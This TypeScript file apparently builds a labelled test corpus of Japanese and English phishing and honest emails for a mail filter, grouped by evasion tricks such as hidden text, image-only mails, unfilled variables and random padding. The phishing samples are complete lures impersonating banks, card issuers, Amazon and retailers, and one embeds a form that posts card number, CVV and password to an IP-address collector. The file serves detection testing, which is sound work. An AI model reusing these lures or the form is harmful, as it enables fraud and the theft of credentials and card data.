/** Disguises of the text: hidden, drawn, unfilled, padded, borrowed. */
import type { Family } from '../../scripts/corpus/spec.ts'
import { ham, phish } from './kit.ts'
import { pictureFile } from './picture.ts'

/** Words of no meaning, hidden from the reader to dilute the rest. */
const salad =
  'garden bridge seventeen quietly lemon harbour winter telephone morning carpet violin umbrella railway autumn '.repeat(
    6,
  )

export const trickText: readonly Family[] = [
  {
    family: 'hidden-text',
    shows: 'Text the reader does not see, to dilute the lure; and a preheader.',
    mails: [
      phish('hidden-text-bad', 'ja', 'White, tiny and undisplayed English words around a JCB lure.', {
        symbols: ['HIDDEN_TEXT', 'BRAND_IMPERSONATED'],
        from: 'JCBカード <info@miwake-sample-28.top>',
        subject: 'JCB カードの年会費のお支払い方法に問題があります',
        date: '2025-02-25 08:08 +0800',
        auth: 'pass',
        hop: 'unknown 203.0.113.26',
        form: 'html',
        style: 'card',
        html: (page) =>
          page
            .replace(/(<p style)/, `<div style="font-size:0;line-height:0;color:#ffffff">${salad}</div>$1`)
            .replace('</body>', `<span style="display:none">${salad}</span></body>`),
        body: `
いつもJCBカードをご利用いただき、誠にありがとうございます。

年会費のお支払いができませんでした。カードが無効となる前に、MyJCBにてお支払い方法をご確認ください。

[[MyJCBにログイン|https://my-jcb.miwake-sample-28.top/]]`,
      }),
      ham('hidden-text-honest', 'ja', 'One hidden sentence that the list of mails shows.', {
        from: 'みどり書店メール会員 <mail@midori-shoten.example.co.jp>',
        subject: '今週の新刊12冊',
        date: '2026-09-25 17:00 +0900',
        auth: 'pass',
        style: 'card',
        html: (page) =>
          page.replace(
            '<body>',
            '<body><div style="display:none;font-size:1px;color:#ffffff">読書の秋におすすめの12冊を、店員の一言とともにご紹介します。</div>',
          ),
        header: [['List-Unsubscribe', '<https://midori-shoten.example.co.jp/u?m=12>']],
        body: `
今週の新刊から、店員が選んだ12冊をご紹介します。

- 「海を渡る図書館」 旅の本が好きな方に
- 「はじめての発酵」 年会費無料の料理教室つき

[[一覧を見る|https://midori-shoten.example.co.jp/new/0925]]

みどり書店　緑野県緑野市駅前1-1　[[配信停止|https://midori-shoten.example.co.jp/u?m=12]]`,
      }),
    ],
  },
  {
    family: 'image-only',
    shows: 'The whole mail is one picture with a link.',
    mails: [
      phish(
        'image-only-bad',
        'ja',
        'No text at all; the picture links to a foreign site; the subject names Rakuten Card.',
        {
          symbols: ['IMAGE_ONLY', 'BRAND_IMPERSONATED', 'LINK_LOOK_ALIKE'],
          actions: ['junk', 'review'],
          from: '楽天カード <info@miwake-mihon-kaado.shop>',
          subject: '【楽天カード】カードご利用制限のお知らせ',
          date: '2025-08-16 04:44 +0800',
          auth: 'pass',
          hop: 'unknown 203.0.113.27',
          form: 'html',
          style: 'plain',
          files: [pictureFile('notice.png', 'image-only-bad', 'notice@miwake')],
          body: '[[!cid:notice@miwake|https://rakuten-card.miwake-mihon-kaado.shop/e-navi]]',
        },
      ),
      ham('image-only-honest', 'ja', 'A flyer as picture, with alternative text and a text part.', {
        from: '緑野市立図書館 <tosho@lib.midorino.example.lg.jp>',
        subject: '夏休みおはなし会のお知らせ',
        date: '2026-07-10 15:00 +0900',
        auth: 'pass',
        style: 'plain',
        files: [pictureFile('chirashi.png', 'image-only-honest', 'chirashi@lib')],
        body: `
7月25日（土）14時から、児童室で「夏休みおはなし会」を開きます。申し込みはいりません。チラシをご覧ください。

![夏休みおはなし会のチラシ|cid:chirashi@lib]

緑野市立図書館　電話 000-000-2255`,
      }),
    ],
  },
  {
    family: 'unfilled-template',
    shows: 'Variables nobody filled in; and a mail that speaks about such variables.',
    mails: [
      phish('unfilled-template-bad', 'ja', 'Left-over variables of a mass mailer in a lure that names Saison.', {
        symbols: ['UNFILLED_TEMPLATE', 'BRAND_IMPERSONATED'],
        from: 'セゾンカード <saison@[[DOMAIN]].miwake-sample-29.top>'.replace('[[DOMAIN]]', 'mx3'),
        subject: '【セゾンNetアンサー】お知らせ [RAND_NUM_8]',
        date: '2024-06-20 11:19 +0800',
        auth: 'pass',
        hop: 'unknown 203.0.113.28',
        style: 'plain',
        body: `
{$NAME$} 様

[DATE] [TIME] に、お客様のカードで不審なご利用（[AMOUNT]円）がございました。
Netアンサーより内容をご確認下さい。

[[確認する|https://saison.miwake-sample-29.top/[RAND_TEXT_6]]]

本メールは [EMAIL] 宛に送信しております。
%%UNSUB_TEXT%%`,
        html: (page) => page.replaceAll('[RAND_TEXT_6]]', '[RAND_TEXT_6]'),
        text: (page) => page.replaceAll('[RAND_TEXT_6]]', '[RAND_TEXT_6]'),
      }),
      ham('unfilled-template-honest', 'ja', 'A colleague asks about template variables.', {
        symbols: ['UNFILLED_TEMPLATE'],
        from: '森 美咲 <mori@example.jp>',
        subject: 'メール配信テンプレートの差し込み項目について',
        date: '2026-08-27 14:33 +0900',
        auth: 'pass',
        form: 'text',
        charset: 'iso-2022-jp',
        body: `
山田さん

配信テンプレートの件です。差し込み項目は次の3つにしたいと思います。

{{name}} … 会員のお名前
{{point}} … 保有ポイント
[DATE] … 失効日

前回、{{name}} が空のまま送られた方が2名いました。空のときは「お客様」と出るようにできますか。`,
      }),
      phish('unfilled-template-en-bad', 'en', 'Left-over variables; Wells Fargo named.', {
        symbols: ['UNFILLED_TEMPLATE', 'BRAND_IMPERSONATED'],
        from: 'Wells Fargo Online <alert@miwake-sample-30.test>',
        subject: 'Important: [FIRSTNAME], your account ending ##4DIGITS## is locked',
        date: '2023-10-11 03:10 +0000',
        auth: 'none',
        hop: 'unknown 203.0.113.29',
        form: 'html',
        style: 'plain',
        encoding: 'quoted-printable',
        body: `
Dear {{first_name|customer}},

We noticed a sign in to your account from {{geo.city}} on ##DATE##. For your protection the account was locked.

[[Unlock|https://wf.miwake-sample-30.test/?e=%25%25EMAIL%25%25]]

Reference: %RND_UC_CHAR[8]%`,
      }),
      ham('unfilled-template-en-honest', 'en', 'A developer about a bug with variables.', {
        symbols: ['UNFILLED_TEMPLATE'],
        from: 'Noor Haddad <noor@example.com>',
        subject: 'Template bug: {{first_name}} shown literally',
        date: '2026-01-28 10:44 +0000',
        auth: 'pass',
        form: 'text',
        charset: 'us-ascii',
        body: `
Hi Hanako,

When a contact has no first name, the welcome mail says "Dear {{first_name}}," instead of "Dear customer,". Steps: make a contact without a name, press Send test.

The fix is a default: {{first_name|default:"customer"}}. Could you review it before the next release?

Noor`,
      }),
    ],
  },
  {
    family: 'address-as-name',
    shows: 'The address stands in for the name nobody knows.',
    mails: [
      phish('address-as-name-bad', 'ja', 'Greets the address, names View Card, foreign link.', {
        symbols: ['ADDRESS_AS_NAME', 'BRAND_IMPERSONATED'],
        from: 'ビューカード <viewcard@miwake-sample-31.cn>',
        subject: 'taro@example.jp様、ビューカードのご利用停止のお知らせ',
        date: '2025-01-30 10:31 +0800',
        auth: 'pass',
        hop: 'unknown 203.0.113.30',
        style: 'mobile',
        body: `
taro@example.jp様

ビューカードは、お客様の安全のためカードの利用を停止いたしました。ご利用を再開するには、VIEW's NETでの確認が必要です。

[[VIEW's NETで確認|https://viewsnet.miwake-sample-31.cn/V0100]]

本メールに心当たりがない場合は破棄して下さい。`,
      }),
      ham('address-as-name-honest', 'ja', 'A forum that knows no more than the address.', {
        symbols: ['ADDRESS_AS_NAME'],
        from: '自転車の部屋 <noreply@bicycle-forum.example.jp>',
        subject: 'メールアドレスの確認',
        date: '2026-05-16 23:01 +0900',
        auth: 'pass',
        form: 'text',
        body: `
taro@example.jp 様

「自転車の部屋」への登録を受け付けました。24時間以内に次のURLを開くと、登録が完了します。
https://bicycle-forum.example.jp/register/confirm?t=5f0c2a

お心当たりがない場合は、何もしなければ登録されません。`,
      }),
    ],
  },
  {
    family: 'random-padding',
    shows: 'Random letters in subject and text to make each copy differ; and the reference numbers of honest mail.',
    mails: [
      phish('random-padding-bad', 'ja', 'Random codes, Orico named, foreign target.', {
        symbols: ['RANDOM_PADDING', 'BRAND_IMPERSONATED'],
        from: 'オリコカード <orico-hq4xz@miwake-sample-32.top>',
        subject: '【オリコ】eオリコサービスのパスワード変更のお願い hq4xz-88213',
        date: '2024-07-17 05:55 +0800',
        auth: 'pass',
        hop: 'unknown 203.0.113.32',
        style: 'plain',
        body: `
オリコカードをご利用のお客様

パスワードが第三者に知られた可能性がございます。至急ご変更をお願い致します。

[[変更する|https://hq4xz.orico.miwake-sample-32.top/?k=qpzmwoeirutyal]]

hq4xz 0x7fa1 qpzm woei 88213 lskd jfhg mznx bcva
2024 wqer tyui opas 3391 dfgh jklz xcvb`,
      }),
      ham('random-padding-honest', 'ja', 'A help desk ticket with its number and a tracking code.', {
        from: 'みどりソフト サポート <support@midori-soft.example.co.jp>',
        subject: '[#MS-88213] パスワード変更画面が表示されない件',
        date: '2026-02-19 16:02 +0900',
        auth: 'pass',
        form: 'text',
        header: [
          ['In-Reply-To', '<ms-88213-0@example.jp>'],
          ['Auto-Submitted', 'no'],
        ],
        body: `
山田様

お問い合わせの件（#MS-88213）、調べましたところ、ブラウザーの古い設定が原因のようです。
「設定」→「保存されたデータ」から midori-soft.example.co.jp を削除し、もう一度お試しください。

エラーコード E-0x7fa1 が続く場合は、画面の写真をお送りください。

サポート担当 今井`,
      }),
    ],
  },
  {
    family: 'form-in-mail',
    shows: 'A form inside the mail asks for the password or card.',
    mails: [
      phish('form-in-mail-bad', 'en', 'Card form inside the mail, posts to an address in numbers.', {
        symbols: ['FORM_IN_MAIL', 'PASSWORD_FIELD', 'LINK_IP', 'BRAND_IMPERSONATED'],
        from: 'Amazon Account <verify@miwake-sample-45.example>',
        subject: 'Confirm your card to release your order',
        date: '2020-08-30 22:01 +0000',
        auth: 'none',
        hop: 'unknown 203.0.113.49',
        form: 'html',
        style: 'plain',
        encoding: 'quoted-printable',
        html: (page) =>
          page.replace(
            '</body>',
            '<form action="http://203.0.113.49/collect.php" method="post">Card number <input name="card"><br>Expiry <input name="exp" size="5"> CVV <input name="cvv" size="3"><br>Password <input type="password" name="pw"><br><input type="submit" value="Confirm"></form>\n</body>',
          ),
        body: `
Dear Amazon customer,

Your order is on hold. To release it, enter your card details and password in the form below.`,
      }),
      ham('form-in-mail-honest', 'en', 'A library mail with a search box, no secret asked.', {
        symbols: ['FORM_IN_MAIL'],
        from: 'City Library <news@library.example.org>',
        subject: 'New in the catalogue this week',
        date: '2026-01-09 09:00 +0000',
        auth: 'pass',
        form: 'both',
        style: 'plain',
        encoding: 'quoted-printable',
        header: [['List-Unsubscribe', '<https://library.example.org/mail/off>']],
        html: (page) =>
          page.replace(
            '</body>',
            '<form action="https://library.example.org/search" method="get"><input name="q"><input type="submit" value="Search the catalogue"></form>\n</body>',
          ),
        body: `
Hello Hanako,

Forty new titles arrived this week. To place an order for one, sign in at the library's web site or ask at the desk.

[[See the list|https://library.example.org/new]]`,
      }),
    ],
  },
  {
    family: 'borrowed-warning',
    shows: "The lure quotes the brand's own warning of phishing; and the brand's true warning.",
    mails: [
      phish(
        'borrowed-warning-bad',
        'ja',
        'Nomura named; warns of phishing and links to the real page for cover, the button is foreign.',
        {
          symbols: ['BRAND_IMPERSONATED', 'BRAND_CLAIM_TARGET_FOREIGN'],
          from: '野村證券 <nomura@miwake-sample-46.cn>',
          subject: '【野村證券】フィッシング詐欺対策のための再認証のお願い',
          date: '2025-05-22 07:20 +0800',
          auth: 'pass',
          hop: 'unknown 203.0.113.50',
          style: 'card',
          body: `
お客様各位

昨今、野村證券を装ったフィッシングメールが多数確認されております。メール内のリンクからIDやパスワードを入力しないよう、十分ご注意ください。
[[野村證券ウェブサイト|https://www.nomura.co.jp/]]

つきましては、お客様の口座を保護するため、再認証を実施しております。本日中にお手続きください。

[[再認証をする|https://hometrade.miwake-sample-46.cn/web/rmfIndexWebAction.do]]

野村證券株式会社`,
        },
      ),
      phish(
        'law-lines-bad',
        'ja',
        "Copies the lines the law wants of advertising, with the brand's real address; sender and links are foreign.",
        {
          symbols: ['BRAND_IMPERSONATED', 'BRAND_CLAIM_TARGET_FOREIGN'],
          from: 'ヨドバシ・ドット・コム <info@miwake-sample-48.shop>',
          subject: '【ヨドバシ・ドット・コム】ご登録の電話番号が変更されました',
          date: '2025-01-15 21:27 +0800',
          auth: 'pass',
          hop: 'unknown 203.0.113.54',
          form: 'text',
          body: `
ヨドバシ・ドット・コム会員様

昨晩、会員情報の電話番号が変更されました。ご自身で変更されていない場合は、ポイントを使われる前に、下記より元に戻して下さい。
https://yodobashi.miwake-sample-48.shop/cancel

---
送信者：株式会社ヨドバシカメラ　東京都新宿区新宿5-3-1
配信停止：https://yodobashi.miwake-sample-48.shop/stop
お問い合わせ：0000-00-1010`,
        },
      ),
      ham('borrowed-warning-honest', 'ja', 'The broker itself warns; no button, own links.', {
        symbols: ['BRAND_OWN_TARGETS'],
        from: '野村證券 <info@nomura.co.jp>',
        subject: '【ご注意ください】野村證券を装ったフィッシング詐欺について',
        date: '2026-01-08 12:00 +0900',
        auth: 'pass',
        style: 'card',
        body: `
お客様各位

「再認証のお願い」「口座の利用停止」などの件名で、野村證券を装うフィッシングメールが確認されています。

- メールのリンクからログインせず、ブックマークまたはアプリをご利用ください。
- 本日中、24時間以内など、急がせる文面にご注意ください。
- パスキー認証の設定をおすすめします。

不審な取引に気づいたときは、すぐにお取引店へご連絡ください。

[[セキュリティへの取り組み|https://www.nomura.co.jp/security/]]

野村證券株式会社`,
      }),
    ],
  },
]
